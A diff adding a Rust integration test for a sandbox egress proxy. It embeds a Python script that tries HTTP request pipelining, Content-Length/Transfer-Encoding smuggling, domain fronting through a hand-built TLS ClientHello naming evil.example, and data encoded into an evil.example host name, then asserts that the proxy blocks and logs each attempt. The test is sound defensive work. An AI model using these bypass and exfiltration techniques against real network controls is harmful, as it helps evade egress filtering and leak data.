@@ -257,3 +257,90 @@ fn the_standalone_proxy_serves_other_clients() {
     proxy.kill().unwrap();
     proxy.wait().unwrap();
 }
+
+#[test]
+fn smuggling_fronting_and_names_as_data_fail_from_inside() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    let allowed = Listener::start();
+    let exfil = Listener::start();
+    let (a, e) = (allowed.port, exfil.port);
+    let grant = format!("127.0.0.1:{a}");
+    // Raw requests to the proxy, from a program that does not play by the proxy variables.
+    let script = format!(
+        r#"/usr/bin/python3 - <<'PY' > out.txt
+import socket
+def talk(data, read=True):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    s.sendall(data)
+    out = b""
+    try:
+        while read:
+            chunk = s.recv(65536)
+            if not chunk: break
+            out += chunk
+    except OSError:
+        pass
+    s.close()
+    return out.decode("latin-1")
+# A second, unallowed target pipelined behind an allowed one.
+r = talk(b"GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\n\r\nGET http://127.0.0.1:{e}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n")
+print("pipelined", r.count(" 200 OK"), r.count(" 403 "))
+# Content-Length and Transfer-Encoding together.
+print("ambiguous", talk(b"POST http://127.0.0.1:{a}/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n").split("\r\n")[0])
+# A CONNECT to the allowed address carrying a ClientHello for another host.
+name = b"evil.example"
+sni = b"\x00" + len(name).to_bytes(2, "big") + name
+sni = len(sni).to_bytes(2, "big") + sni
+ext = b"\x00\x00" + len(sni).to_bytes(2, "big") + sni
+body = b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + len(ext).to_bytes(2, "big") + ext
+hs = b"\x01" + len(body).to_bytes(3, "big") + body
+hello = b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs
+s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+s.sendall(b"CONNECT 127.0.0.1:{a} HTTP/1.1\r\n\r\n")
+print("connect", s.recv(100).decode().split("\r\n")[0])
+s.sendall(hello)
+try:
+    print("fronting", repr(s.recv(100)))
+except OSError as err:
+    print("fronting", err)
+# A name made of encoded data.
+print("exfil", talk(b"GET http://mzxw6ytboi4dcnrqgazdgnbvgy3tqojqgezdgnbvgy3tqojqmzxw6y.evil.example/ HTTP/1.1\r\n\r\n").split("\r\n")[-1].strip())
+PY"#
+    );
+    let out = inside(&home, &["--allow-net", &grant], &script);
+    let text = out_file(&home);
+    assert!(text.contains("pipelined 1 1"), "{text}\n{}", stderr(&out));
+    assert!(
+        text.contains("ambiguous HTTP/1.1 400 Bad Request"),
+        "{text}"
+    );
+    assert!(
+        text.contains("connect HTTP/1.1 200 Connection Established"),
+        "{text}"
+    );
+    assert!(text.contains("fronting b''"), "{text}");
+    assert!(
+        text.contains("looks like data encoded in a host name"),
+        "{text}"
+    );
+    assert_eq!(exfil.received(), 0);
+    // The allowed server got the first GET but not the ClientHello.
+    assert!(allowed.received() < 200, "{}", allowed.received());
+
+    let records = audit_net(&home);
+    let fronting = records.iter().any(|r| {
+        r["input"]["result"]["cut"]
+            .as_str()
+            .is_some_and(|c| c.contains("domain fronting"))
+    });
+    let exfil_name = records.iter().any(|r| {
+        r["action"] == "resolve"
+            && r["allow"] == false
+            && r["reasons"].to_string().contains("encoded in a host name")
+    });
+    assert!(fronting, "the fronting cut is not in the audit log");
+    assert!(exfil_name, "the refused name is not in the audit log");
+}
